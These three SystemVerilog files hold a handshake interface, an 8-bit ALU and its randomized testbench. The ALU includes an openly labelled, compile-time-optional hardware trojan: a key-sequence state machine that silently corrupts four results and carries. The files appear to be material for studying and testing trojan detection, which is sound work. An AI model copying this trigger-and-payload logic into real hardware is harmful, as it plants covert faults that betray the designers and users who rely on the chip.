// File: rtl/alu_seq_if.sv
// rtl/alu_seq_if.sv - operand/result handshake bundle for alu_seq_core
//
// Ports (master = operand producer and result consumer; slave = alu_seq_core):
//   in_valid, in_ready      operand/opcode handshake
//   a, b [WIDTH-1:0], op    operands and opcode
//   out_valid, out_ready    result handshake
//   res [WIDTH-1:0], cout, zero   registered result and flags
interface alu_seq_if #(
  parameter int WIDTH = 8
);
  logic             in_valid;
  logic             in_ready;
  logic [WIDTH-1:0] a;
  logic [WIDTH-1:0] b;
  logic [2:0]       op;
  logic             out_valid;
  logic             out_ready;
  logic [WIDTH-1:0] res;
  logic             cout;
  logic             zero;

  modport master (
    output in_valid, a, b, op, out_ready,
    input  in_ready, out_valid, res, cout, zero
  );

  modport slave (
    input  in_valid, a, b, op, out_ready,
    output in_ready, out_valid, res, cout, zero
  );
endinterface

// File: rtl/alu_seq_core.sv
// rtl/alu_seq_core.sv - registered WIDTH-bit 8-op ALU with carry chain and optional sequential trojan
//
// Ports:
//   clk    rising-edge clock
//   rst_n  asynchronous active-low reset
//   bus    alu_seq_if.slave: in_valid/in_ready/a/b/op in, out_valid/out_ready/res/cout/zero out
// Opcodes: 000 ADD, 001 SUB, 010 AND, 011 OR, 100 XOR, 101 SHL, 110 SHR, 111 ADDC.
// Build option: define ALU_TROJAN_EN to include the key-sequence FSM and result payload;
// without it res/cout are always the clean ALU results.
module alu_seq_core #(
  parameter int                   WIDTH       = 8,
  parameter logic [2*WIDTH-1:0]   KEY0        = {8'hFF, 8'hFF},
  parameter logic [2*WIDTH-1:0]   KEY1        = {8'h69, 8'h96},
  parameter logic [2*WIDTH-1:0]   KEY2        = {8'hC3, 8'h3C},
  parameter int                   PAYLOAD_LEN = 4
) (
  input  logic       clk,
  input  logic       rst_n,
  alu_seq_if.slave   bus
);

  localparam int SHW = $clog2(WIDTH);

  logic             accept;
  logic             corrupt;
  logic [WIDTH:0]   alu_sum;
  logic [WIDTH-1:0] emit_res;
  logic             emit_cout;

  logic             out_valid_q, out_valid_d;
  logic [WIDTH-1:0] res_q, res_d;
  logic             cout_q, cout_d;
  logic             zero_q, zero_d;
  logic             cflag_q, cflag_d;

  // Output register may be refilled in the same cycle it is drained.
  assign bus.in_ready  = !out_valid_q || bus.out_ready;
  assign accept        = bus.in_valid && bus.in_ready;

  assign bus.out_valid = out_valid_q;
  assign bus.res       = res_q;
  assign bus.cout      = cout_q;
  assign bus.zero      = zero_q;

  // Clean ALU result; bit WIDTH is carry for adds and borrow for SUB
  // (a - b taken modulo 2^(WIDTH+1) sets the top bit exactly when a < b).
  always_comb begin
    alu_sum = '0;
    case (bus.op)
      3'b000:  alu_sum = {1'b0, bus.a} + {1'b0, bus.b};
      3'b001:  alu_sum = {1'b0, bus.a} - {1'b0, bus.b};
      3'b010:  alu_sum = {1'b0, bus.a & bus.b};
      3'b011:  alu_sum = {1'b0, bus.a | bus.b};
      3'b100:  alu_sum = {1'b0, bus.a ^ bus.b};
      3'b101:  alu_sum = {1'b0, bus.a << bus.b[SHW-1:0]};
      3'b110:  alu_sum = {1'b0, bus.a >> bus.b[SHW-1:0]};
      default: alu_sum = {1'b0, bus.a} + {1'b0, bus.b} + {{WIDTH{1'b0}}, cflag_q};
    endcase
  end

`ifdef ALU_TROJAN_EN
  typedef enum logic [1:0] {
    ST_IDLE = 2'd0,
    ST_S1   = 2'd1,
    ST_S2   = 2'd2,
    ST_FIRE = 2'd3
  } state_e;

  state_e            state_q, state_d;
  logic [7:0]        pcnt_q, pcnt_d;
  logic [2*WIDTH-1:0] key;

  assign key = {bus.b, bus.a};

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q <= ST_IDLE;
      pcnt_q  <= 8'd0;
    end else begin
      state_q <= state_d;
      pcnt_q  <= pcnt_d;
    end
  end

  // Only accepted transactions move the sequence; keys are not looked at in FIRE.
  always_comb begin
    state_d = state_q;
    pcnt_d  = pcnt_q;
    if (accept) begin
      case (state_q)
        ST_IDLE: begin
          if (key == KEY0) state_d = ST_S1;
        end
        ST_S1: begin
          if (key == KEY1)      state_d = ST_S2;
          else if (key == KEY0) state_d = ST_S1;
          else                  state_d = ST_IDLE;
        end
        ST_S2: begin
          if (key == KEY2) begin
            state_d = ST_FIRE;
            pcnt_d  = 8'(PAYLOAD_LEN);
          end else if (key == KEY0) begin
            state_d = ST_S1;
          end else begin
            state_d = ST_IDLE;
          end
        end
        default: begin
          // Last corrupted result: leave FIRE rather than count down to zero.
          if (pcnt_q <= 8'd1) begin
            state_d = ST_IDLE;
            pcnt_d  = 8'd0;
          end else begin
            pcnt_d  = pcnt_q - 8'd1;
          end
        end
      endcase
    end
  end

  always_comb begin
    corrupt = (state_q == ST_FIRE);
  end
`else
  logic unused_trojan_cfg;

  assign unused_trojan_cfg = ^{KEY0, KEY1, KEY2, 8'(PAYLOAD_LEN)};
  assign corrupt           = 1'b0;
`endif

  assign emit_res  = alu_sum[WIDTH-1:0] ^ {{(WIDTH-1){1'b0}}, corrupt};
  assign emit_cout = alu_sum[WIDTH] ^ corrupt;

  // cflag follows the emitted carry, so a corrupted carry propagates into ADDC.
  always_comb begin
    out_valid_d = out_valid_q;
    res_d       = res_q;
    cout_d      = cout_q;
    zero_d      = zero_q;
    cflag_d     = cflag_q;
    if (accept) begin
      out_valid_d = 1'b1;
      res_d       = emit_res;
      cout_d      = emit_cout;
      zero_d      = (emit_res == '0);
      cflag_d     = emit_cout;
    end else if (bus.out_ready) begin
      out_valid_d = 1'b0;
    end
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      out_valid_q <= 1'b0;
      res_q       <= '0;
      cout_q      <= 1'b0;
      zero_q      <= 1'b0;
      cflag_q     <= 1'b0;
    end else begin
      out_valid_q <= out_valid_d;
      res_q       <= res_d;
      cout_q      <= cout_d;
      zero_q      <= zero_d;
      cflag_q     <= cflag_d;
    end
  end

endmodule

// File: tb/tb_alu_seq_core.sv
// tb/tb_alu_seq_core.sv - randomized self-checking bench for alu_seq_core against a transaction model
module tb_alu_seq_core;
  localparam int          W   = 8;
  localparam logic [15:0] K0  = 16'hFFFF;
  localparam logic [15:0] K1  = 16'h6996;
  localparam logic [15:0] K2  = 16'hC33C;
  localparam int          PL  = 4;
`ifdef ALU_TROJAN_EN
  localparam bit          TJ  = 1'b1;
`else
  localparam bit          TJ  = 1'b0;
`endif

  logic clk   = 1'b0;
  logic rst_n = 1'b0;
  always #5 clk = ~clk;

  alu_seq_if #(.WIDTH(W)) bus ();

  alu_seq_core #(.WIDTH(W)) dut (
    .clk   (clk),
    .rst_n (rst_n),
    .bus   (bus)
  );

  int checks = 0;
  int errors = 0;

  task automatic check(input string tag, input logic [31:0] got, input logic [31:0] exp);
    checks++;
    if (got !== exp) begin
      errors++;
      $display("FAIL %s: got %0h expected %0h", tag, got, exp);
    end
  endtask

  // Transaction-level reference: pending results, carry flag, and trojan progress
  // (matched key count plus remaining corrupted results).
  typedef struct {
    int r;
    int c;
  } exp_t;
  exp_t exp_q[$];
  int   m_cflag = 0;
  int   m_stage = 0;
  int   m_left  = 0;

  function automatic void model_reset();
    exp_q.delete();
    m_cflag = 0;
    m_stage = 0;
    m_left  = 0;
  endfunction

  function automatic void model_accept(input int a, input int b, input int op);
    int   r, c, s, k;
    exp_t e;
    k = b * 256 + a;
    r = 0;
    c = 0;
    case (op)
      0: begin s = a + b; r = s % 256; c = s / 256; end
      1: begin r = (a - b + 256) % 256; c = (a < b) ? 1 : 0; end
      2: r = a & b;
      3: r = a | b;
      4: r = a ^ b;
      5: r = (a << (b % 8)) % 256;
      6: r = a >> (b % 8);
      default: begin s = a + b + m_cflag; r = s % 256; c = s / 256; end
    endcase
    if (TJ) begin
      if (m_left > 0) begin
        r = r ^ 1;
        c = 1 - c;
        m_left--;
      end else if (m_stage == 1 && k == int'(K1)) begin
        m_stage = 2;
      end else if (m_stage == 2 && k == int'(K2)) begin
        m_stage = 0;
        m_left  = PL;
      end else if (k == int'(K0)) begin
        m_stage = 1;
      end else begin
        m_stage = 0;
      end
    end
    m_cflag = c;
    e.r = r;
    e.c = c;
    exp_q.push_back(e);
  endfunction

  // Scoreboard: sampled mid-cycle, so it sees exactly what the next edge will act on.
  always @(negedge clk) begin
    if (rst_n) begin
      exp_t e;
      check("in_ready", bus.in_ready, (exp_q.size() == 0) || bus.out_ready);
      check("out_valid", bus.out_valid, exp_q.size() != 0);
      if (bus.out_valid && bus.out_ready && exp_q.size() > 0) begin
        e = exp_q.pop_front();
        check("sb_res", bus.res, e.r);
        check("sb_cout", bus.cout, e.c);
        check("sb_zero", bus.zero, e.r == 0);
      end
      if (bus.in_valid && bus.in_ready)
        model_accept(int'(bus.a), int'(bus.b), int'(bus.op));
    end
  end

  task automatic do_reset();
    rst_n         = 1'b0;
    bus.in_valid  = 1'b0;
    bus.a         = '0;
    bus.b         = '0;
    bus.op        = '0;
    bus.out_ready = 1'b1;
    model_reset();
    repeat (2) @(posedge clk);
    #1 rst_n = 1'b1;
  endtask

  // Called at posedge+1; returns at posedge+1 after the accepting edge.
  task automatic send(input logic [7:0] ta, input logic [7:0] tb, input logic [2:0] top);
    int n;
    n = 0;
    bus.in_valid = 1'b1;
    bus.a        = ta;
    bus.b        = tb;
    bus.op       = top;
    forever begin
      @(negedge clk);
      if (bus.in_ready) break;
      n++;
      if (n > 50) begin
        check("send_timeout", bus.in_ready, 1);
        break;
      end
    end
    @(posedge clk);
    #1 bus.in_valid = 1'b0;
  endtask

  task automatic op_chk(input string tag, input logic [7:0] ta, input logic [7:0] tb,
                        input logic [2:0] top, input logic [7:0] er, input logic ec);
    send(ta, tb, top);
    check({tag, "_res"}, bus.res, er);
    check({tag, "_cout"}, bus.cout, ec);
    check({tag, "_zero"}, bus.zero, er == 8'h00);
    check({tag, "_ov"}, bus.out_valid, 1);
  endtask

  logic [15:0] keys [3];
  logic [15:0] k;
  int          inj;

  initial begin
    keys[0] = K0;
    keys[1] = K1;
    keys[2] = K2;
    do_reset();

    check("rst_out_valid", bus.out_valid, 0);
    check("rst_res", bus.res, 0);
    check("rst_cout", bus.cout, 0);
    check("rst_zero", bus.zero, 0);
    check("rst_in_ready", bus.in_ready, 1);

    op_chk("add", 8'hF0, 8'h20, 3'b000, 8'h10, 1'b1);
    op_chk("addc", 8'h00, 8'h00, 3'b111, 8'h01, 1'b0);
    op_chk("sub", 8'h05, 8'h07, 3'b001, 8'hFE, 1'b1);
    op_chk("shl", 8'h81, 8'h09, 3'b101, 8'h02, 1'b0);
    op_chk("shr", 8'h81, 8'h03, 3'b110, 8'h10, 1'b0);
    op_chk("xor", 8'h5A, 8'h5A, 3'b100, 8'h00, 1'b0);
    op_chk("add_wrap", 8'hFF, 8'h01, 3'b000, 8'h00, 1'b1);

    // Stall an ADDC behind an unconsumed result; cflag must still be 1 afterwards.
    bus.out_ready = 1'b0;
    bus.in_valid  = 1'b1;
    bus.a         = 8'h00;
    bus.b         = 8'h00;
    bus.op        = 3'b111;
    for (int i = 0; i < 3; i++) begin
      @(posedge clk);
      #1;
      check("stall_in_ready", bus.in_ready, 0);
      check("stall_res", bus.res, 8'h00);
      check("stall_out_valid", bus.out_valid, 1);
    end
    bus.out_ready = 1'b1;
    @(posedge clk);
    #1;
    bus.in_valid = 1'b0;
    check("release_res", bus.res, 8'h01);
    check("release_cout", bus.cout, 0);

    // Full key sequence using AND: the key transactions themselves stay clean.
    op_chk("key0_and", 8'hFF, 8'hFF, 3'b010, 8'hFF, 1'b0);
    op_chk("key1_and", 8'h96, 8'h69, 3'b010, 8'h00, 1'b0);
    op_chk("key2_and", 8'h3C, 8'hC3, 3'b010, 8'h00, 1'b0);
    for (int i = 0; i < 4; i++)
      op_chk("payload", 8'h01, 8'h01, 3'b000, TJ ? 8'h03 : 8'h02, TJ);
    op_chk("payload_end", 8'h01, 8'h01, 3'b000, 8'h02, 1'b0);

    // Broken sequence must not fire.
    send(8'hFF, 8'hFF, 3'b000);
    send(8'h96, 8'h69, 3'b000);
    send(8'h00, 8'h00, 3'b000);
    send(8'h3C, 8'hC3, 3'b000);
    op_chk("broken", 8'h01, 8'h01, 3'b000, 8'h02, 1'b0);

    // Repeated KEY0 keeps the sequence armed.
    send(8'hFF, 8'hFF, 3'b000);
    send(8'hFF, 8'hFF, 3'b000);
    send(8'h96, 8'h69, 3'b000);
    send(8'h3C, 8'hC3, 3'b000);
    op_chk("selfloop1", 8'h01, 8'h01, 3'b000, TJ ? 8'h03 : 8'h02, TJ);
    op_chk("selfloop2", 8'h01, 8'h01, 3'b000, TJ ? 8'h03 : 8'h02, TJ);

    // Reset while firing with a result held: everything lost at once.
    rst_n = 1'b0;
    model_reset();
    #1;
    check("async_rst_out_valid", bus.out_valid, 0);
    check("async_rst_in_ready", bus.in_ready, 1);
    @(posedge clk);
    #1 rst_n = 1'b1;
    op_chk("after_rst", 8'h01, 8'h01, 3'b000, 8'h02, 1'b0);

    // Random traffic with random backpressure and occasional key-sequence bursts.
    inj = 0;
    for (int i = 0; i < 3000; i++) begin
      if (inj == 0 && $urandom_range(0, 15) == 0) inj = 3;
      if (inj > 0) begin
        k             = keys[3 - inj];
        bus.in_valid  = 1'b1;
        bus.out_ready = 1'b1;
        bus.op        = 3'($urandom_range(0, 7));
        inj--;
      end else begin
        k             = 16'($urandom);
        bus.in_valid  = ($urandom_range(0, 3) != 0);
        bus.out_ready = ($urandom_range(0, 3) != 0);
        bus.op        = 3'($urandom_range(0, 7));
      end
      bus.a = k[7:0];
      bus.b = k[15:8];
      @(posedge clk);
      #1;
    end

    bus.in_valid  = 1'b0;
    bus.out_ready = 1'b1;
    repeat (3) @(posedge clk);
    #1;
    check("drain_out_valid", bus.out_valid, 0);

    $display("CHECKS %0d ERRORS %0d", checks, errors);
    $finish;
  end

endmodule
